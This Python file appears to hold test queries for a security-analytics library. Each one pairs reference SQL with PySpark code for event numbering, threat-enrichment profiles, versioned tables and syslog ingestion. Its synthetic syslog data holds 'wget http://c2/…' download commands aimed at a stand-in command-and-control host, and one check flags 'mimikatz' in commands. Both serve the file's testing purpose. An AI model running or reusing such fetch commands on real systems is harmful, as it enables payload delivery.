"""Queries of global numbering, chunks of data sets, enriched profiles, unique keys, published tables and syslog folders."""

from __future__ import annotations

import uuid

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from duskwatch.functions.vectors import norm
from duskwatch.operators import enrichment, numbering, tables
from duskwatch.operators.steps import shared_dir
from duskwatch.sources import plugins, readers
from duskwatch.streaming import streams

from .registry import register
from .telemetry import TELEMETRY, telemetry
from .vector_queries import _TACTIC


def _t(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def _folder(spark: SparkSession, name: str) -> str:
    return f"{shared_dir(spark)}/{name}-{uuid.uuid4().hex}"


@register(
    "event_numbers",
    """
    SELECT event_id, row_number() OVER (ORDER BY ts NULLS FIRST, event_id) AS number, row_number() OVER (PARTITION BY event_type ORDER BY value, event_id) AS number_in_type,
      (row_number() OVER (PARTITION BY event_type ORDER BY value, event_id) - 1) // 100 AS chunk
    FROM events
    """,
)
def event_numbers(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Numbers of all events in order of time, and by value within their type, without a window over them."""
    rows = _t(spark, sf_dir, "events").select("event_id", "event_type", "value", "ts")
    inner = numbering.numbered(numbering.numbered(rows, ["ts", "event_id"]), ["value", "event_id"], ["event_type"], "number_in_type")
    return inner.select("event_id", "number", "number_in_type", F.floor((F.col("number_in_type") - 1) / 100).cast("long").alias("chunk"))


@register(
    "dataset_chunks",
    f"""
    WITH {TELEMETRY}, t AS (SELECT source_mode AS dataset, event_id, ts, pid, command, (row_number() OVER (PARTITION BY source_mode ORDER BY ts NULLS FIRST, event_id) - 1) // 100 AS chunk FROM telemetry),
    e AS (SELECT dataset, chunk, event_id AS src, lead(event_id) OVER (PARTITION BY dataset, chunk ORDER BY ts, event_id) AS dst FROM t
          UNION SELECT dataset, chunk, event_id, lead(event_id) OVER (PARTITION BY dataset, chunk, pid ORDER BY ts, event_id) FROM t),
    n AS (SELECT dataset, chunk, count(*) AS edge_count FROM e WHERE dst IS NOT NULL GROUP BY ALL)
    SELECT dataset, chunk, count(*) AS event_count, min(ts) AS first_seen, max(ts) AS last_seen, coalesce(any_value(edge_count), 0) AS edge_count,
      CASE WHEN bool_or(contains(command, 'mimikatz') AND event_id % 5 = 0) THEN CASE dataset WHEN 'SCENARIO' THEN 'APT' ELSE 'Malware' END ELSE 'Benign' END AS threat_class, 'imported' AS source, 0.9e0 AS confidence, 1e0 AS norm
    FROM t LEFT JOIN n USING (dataset, chunk) GROUP BY dataset, chunk
    """,
)
def dataset_chunks(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Patterns of every 100 events of each source of events."""
    rows = telemetry(spark, sf_dir).withColumn("action", F.expr(_TACTIC))
    bad = F.contains("command", F.lit("mimikatz")) & (F.col("event_id") % 5 == 0)
    kind = F.when(F.col("source_mode") == "SCENARIO", F.lit("APT")).otherwise(F.lit(numbering.MALICIOUS))
    found = numbering.chunk_patterns(rows, "source_mode", "event_id", "action", "ts", "pid", bad, kind)
    return found.select("dataset", "chunk", "event_count", "first_seen", "last_seen", "edge_count", "threat_class", "source", "confidence", F.round(norm(F.col("embedding")), 6).alias("norm"))


@register(
    "profile_enrichment",
    """
    WITH p AS (SELECT c_custkey AS id, c_nationkey AS n, CASE c_custkey % 4 WHEN 0 THEN 'widget' WHEN 1 THEN 'COLD' WHEN 2 THEN 'zzzz' END AS word, CASE c_custkey % 2 WHEN 0 THEN ['le_ea', 'as'] ELSE ['zzz', 'EU'] END AS intents,
      c_custkey % 7 > 0 AS meta, CASE c_custkey % 3 WHEN 0 THEN 'CVE-' || (c_custkey % 150) || ' seen' ELSE 'none' END AS cve, CASE c_custkey % 2 WHEN 0 THEN 'PLIER#00' ELSE '000' || (c_custkey % 10) END AS vendor,
      c_custkey % 5 = 0 AS hashed, lpad(c_custkey::VARCHAR, 64, '0') AS sha, '10.0.0.' || (c_custkey % 30) AS ip, c_acctbal > 5000 AS novel FROM customer),
    te AS (SELECT 'T' || n_nationkey AS tid, n_name, lower(r_name) AS tactic FROM nation JOIN region ON n_regionkey = r_regionkey),
    gu AS (SELECT i.intents, f1, f2 FROM (SELECT DISTINCT intents FROM p) i, LATERAL (SELECT coalesce(list(tid || ' ' || n_name ORDER BY tid), [])[1:5] AS f1 FROM te WHERE contains(tactic, replace(lower(i.intents[1]), '_', ' '))),
           LATERAL (SELECT coalesce(list(tid || ' ' || n_name ORDER BY tid), [])[1:5] AS f2 FROM te WHERE contains(tactic, replace(lower(i.intents[2]), '_', ' ')))),
    cp AS (SELECT word, array_to_string(list(pid ORDER BY pid)[1:5], ' ') AS found FROM (SELECT DISTINCT lower(word) AS word FROM p WHERE word IS NOT NULL) w JOIN (SELECT 'CAPEC-' || p_partkey AS pid, lower(p_name || chr(10) || p_type) AS text FROM part) ON contains(text, word) GROUP BY word),
    ge AS (SELECT array_to_string(list('CAPEC-' || p_partkey ORDER BY 'CAPEC-' || p_partkey), ' ') AS general FROM part WHERE p_partkey IN (112, 223, 66)),
    su AS (SELECT 'CVE-' || s_suppkey AS cve_id, lower(s_name) AS text FROM supplier),
    ve AS (SELECT v.vendor, list(cve_id ORDER BY cve_id)[1:3] AS found FROM (SELECT DISTINCT lower(vendor) AS vendor FROM p) v JOIN su ON contains(text, v.vendor) GROUP BY v.vendor),
    r AS (SELECT p.*, CASE WHEN meta AND su.cve_id IS NOT NULL THEN [su.cve_id] ELSE [] END AS a, CASE WHEN meta THEN coalesce(ve.found, []) ELSE [] END AS b
          FROM p LEFT JOIN su ON su.cve_id = string_split(p.cve, ' ')[1] LEFT JOIN ve ON ve.vendor = lower(p.vendor)),
    x AS (SELECT *, list_concat(a, b[1:greatest(1, 3 - len(a))]) AS vulns FROM r)
    SELECT id, CASE WHEN id % 3 = 0 THEN 'T' || n || ' ' || (SELECT n_name FROM te WHERE tid = 'T' || x.n) || '|T99 Technique T99'
        ELSE nullif(array_to_string(list_concat(f1, f2[1:greatest(1, 5 - len(f1))]), '|'), '') END AS mitre,
      CASE WHEN x.word IS NULL THEN NULL ELSE coalesce(cp.found, general) END AS capec,
      CASE WHEN meta AND hashed THEN coalesce(CASE WHEN id % 2 = 0 THEN 'hash ' || sha || ' family-' || (id % 4) END, '') || CASE WHEN id % 2 = 0 AND id % 30 < 10 THEN '|' ELSE '' END || coalesce(CASE WHEN id % 30 < 10 THEN 'address ' || ip || ' online' END, '') END AS malware,
      CASE WHEN NOT (meta OR novel) THEN '' WHEN len(vulns) > 0 THEN array_to_string(vulns, ' ') ELSE 'CVE-1' END AS vulnerabilities
    FROM x JOIN gu USING (intents) LEFT JOIN cp ON cp.word = lower(x.word) CROSS JOIN ge
    """,
)
def profile_enrichment(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Customers as profiles: nations are techniques, parts attack patterns, suppliers vulnerabilities, customers hashes."""
    none, c = F.array().cast("array<string>"), _t(spark, sf_dir, "customer").withColumn("id", F.col("c_custkey"))
    text = lambda *parts: F.concat(*[F.lit(x) if isinstance(x, str) else x.cast("string") for x in parts])
    word = F.when(F.col("id") % 4 == 0, "widget").when(F.col("id") % 4 == 1, "COLD").when(F.col("id") % 4 == 2, "zzzz")
    sha, pairs = F.lpad(F.col("id").cast("string"), 64, "0"), F.array(
        F.struct(F.lit("cve").alias("key"), F.when(F.col("id") % 3 == 0, text("CVE-", F.col("id") % 150, " seen")).otherwise("none").alias("value")),
        F.struct(F.lit("vendor").alias("key"), F.when(F.col("id") % 2 == 0, "PLIER#00").otherwise(text("000", F.col("id") % 10)).alias("value")),
        F.struct(F.lit("dest_ip").alias("key"), text("10.0.0.", F.col("id") % 30).alias("value")),
    )
    hashed = F.array(F.struct(F.lit("sha256").alias("key"), sha.alias("value")))
    profiles = c.select(
        "id", F.when(F.col("id") % 3 == 0, F.array(text("T", F.col("c_nationkey")), F.lit("T99"))).otherwise(none).alias("techniques"),
        F.when(F.col("id") % 2 == 0, F.array(F.lit("le_ea"), F.lit("as"))).otherwise(F.array(F.lit("zzz"), F.lit("EU"))).alias("intents"),
        F.when(word.isNotNull(), F.array(word)).alias("features"), none.alias("critical_path"),
        F.when(F.col("id") % 7 > 0, F.map_from_entries(F.when(F.col("id") % 5 == 0, F.concat(pairs, hashed)).otherwise(pairs))).alias("metadata"),
        F.when(F.col("c_acctbal") > 5000, 0.9).otherwise(0.1).alias("novelty"),
    )
    regions = _t(spark, sf_dir, "region").select(F.col("r_regionkey").alias("n_regionkey"), F.array("r_name").alias("tactics"))
    techniques = _t(spark, sf_dir, "nation").join(regions, "n_regionkey").select(text("T", F.col("n_nationkey")).alias("technique_id"), F.col("n_name").alias("name"), "tactics")
    patterns = _t(spark, sf_dir, "part").select(text("CAPEC-", F.col("p_partkey")).alias("pattern_id"), F.col("p_name").alias("name"), F.col("p_type").alias("description"))
    vulnerabilities = _t(spark, sf_dir, "supplier").select(text("CVE-", F.col("s_suppkey")).alias("cve_id"), F.col("s_name").alias("vendor"), F.lit("").alias("product"))
    hashes = c.filter("id % 2 = 0").select(sha.alias("sha256"), text("family-", F.col("id") % 4).alias("signature"))
    addresses = c.filter("id < 10").select(text("10.0.0.", F.col("id")).alias("ip"), F.lit("online").alias("status"))
    techniques_text = F.array_join(F.transform("mitre_techniques", lambda t: F.concat_ws(" ", t["technique_id"], t["name"])), "|")
    malware_text = F.array_join(F.transform("malware_correlation", lambda m: F.concat_ws(" ", m["feed"], m["indicator"], m["says"])), "|")
    found = enrichment.enrich(profiles, "id", techniques, patterns, vulnerabilities, hashes, addresses, default="CVE-1")
    return found.select("id", techniques_text.alias("mitre"), F.array_join("capec_patterns", " ").alias("capec"), malware_text.alias("malware"), F.array_join("related_vulnerabilities", " ").alias("vulnerabilities"))


@register(
    "pattern_upserts",
    """
    WITH w AS (SELECT user_id AS pattern_id, event_type || ':' || (event_id % 397) AS fingerprint, ts, event_id FROM events)
    SELECT pattern_id, fingerprint, event_id FROM w QUALIFY row_number() OVER (PARTITION BY pattern_id ORDER BY ts DESC, event_id DESC) = 1 AND row_number() OVER (PARTITION BY fingerprint ORDER BY ts DESC, event_id DESC) = 1
    """,
)
def pattern_upserts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Writes of patterns whose id and fingerprint are both unique; a later write deletes what it clashes with."""
    log = _t(spark, sf_dir, "events").select(F.col("user_id").alias("pattern_id"), F.concat_ws(":", "event_type", F.col("event_id") % 397).alias("fingerprint"), "ts", "event_id")
    return tables.replaced(log, ["pattern_id", "fingerprint"], ["ts", "event_id"]).drop("ts")


@register(
    "published_versions",
    """
    SELECT version, event_type, count(*) AS n, CAST(sum(event_id) AS BIGINT) AS ids FROM (SELECT 1 AS version, * FROM events WHERE user_id % 2 = 0 UNION ALL SELECT v, e.* FROM events e, (VALUES (2), (3)) x(v)) GROUP BY ALL
    """,
)
def published_versions(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A table published with some events, then with all, then compacted; a writer between them dies before it publishes."""
    path, events = _folder(spark, "published"), _t(spark, sf_dir, "events")
    tables.publish(events.filter("user_id % 2 = 0"), path)
    tables.write_version(events.limit(0), path)
    tables.publish(events, path)
    tables.compact(spark, path, 2)
    held = [tables.read_version(spark, path, v).withColumn("version", F.lit(v)) for v in (1, 2)] + [tables.read_version(spark, path).withColumn("version", F.lit(3))]
    rows = held[0].unionByName(held[1]).unionByName(held[2])
    return rows.groupBy("version", "event_type").agg(F.count("*").alias("n"), F.sum("event_id").alias("ids"))


_SYSLOG = """
    SELECT CASE WHEN event_id % 7 = 0 THEN NULL ELSE strftime(ts, '%Y-%m-%d %H:%M:%S') END AS seen,
      CASE WHEN event_id % 7 = 0 THEN 'syslog' ELSE CASE event_type WHEN 'error' THEN 'process' WHEN 'click' THEN 'auth' WHEN 'view' THEN 'network' ELSE 'network' END END AS event_type,
      CASE WHEN event_id % 7 = 0 THEN 'kernel: event ' || event_id WHEN event_type = 'error' THEN 'wget http://c2/' || event_id END AS command,
      CASE WHEN event_id % 7 > 0 THEN '10.0.0.' || (user_id % 200) END AS src_ip, CASE WHEN event_id % 7 > 0 THEN 20 + event_id % 5 END AS dst_port,
      CASE WHEN event_id % 7 = 0 THEN NULL WHEN event_type = 'error' THEN 'CRITICAL' WHEN event_id % 5 IN (2, 3) THEN 'HIGH' ELSE 'MEDIUM' END AS severity, count(*) AS n
    FROM events GROUP BY ALL
"""


def _collected(spark: SparkSession, sf_dir: str) -> str:
    """A folder of syslog lines, one for each event: JSON behind a header, every seventh a plain line."""
    sensor = F.when(F.col("event_type") == "click", "Cowrie").when(F.col("event_type") == "view", "suricata").otherwise("other")
    record = F.to_json(F.struct(
        F.date_format("ts", "yyyy-MM-dd HH:mm:ss").alias("timestamp"), sensor.alias("type"), F.format_string("10.0.0.%d", F.col("user_id") % 200).alias("src_ip"), (20 + F.col("event_id") % 5).alias("dest_port"),
        F.when(F.col("event_type") == "error", F.format_string("wget http://c2/%d", "event_id")).alias("input"),
    ))
    line = F.when(F.col("event_id") % 7 == 0, F.format_string("kernel: event %d", "event_id")).otherwise(F.concat(F.lit("<34>1 sensor: "), record))
    path = _folder(spark, "syslog")
    _t(spark, sf_dir, "events").select(line.alias("value")).write.text(path)
    return path


def _counted(lines: DataFrame) -> DataFrame:
    rows = readers.syslog_events(lines).select(F.date_format("ts", "yyyy-MM-dd HH:mm:ss").alias("seen"), "event_type", "command", "src_ip", "dst_port", "severity")
    return rows.groupBy(*rows.columns).agg(F.count("*").alias("n"))


@register("syslog_source", _SYSLOG)
def syslog_source(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events written as syslog lines and read back through the data source, in small ranges."""
    plugins.register(spark)
    return _counted(spark.read.format("syslog").option("rangeBytes", 100_000).load(_collected(spark, sf_dir)))


@register("syslog_stream", _SYSLOG)
def syslog_stream(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The same lines read as a stream."""
    plugins.register(spark)
    stream = spark.readStream.format("syslog").option("rangeBytes", 100_000).load(_collected(spark, sf_dir))
    return _counted(streams.run_to_end(stream))
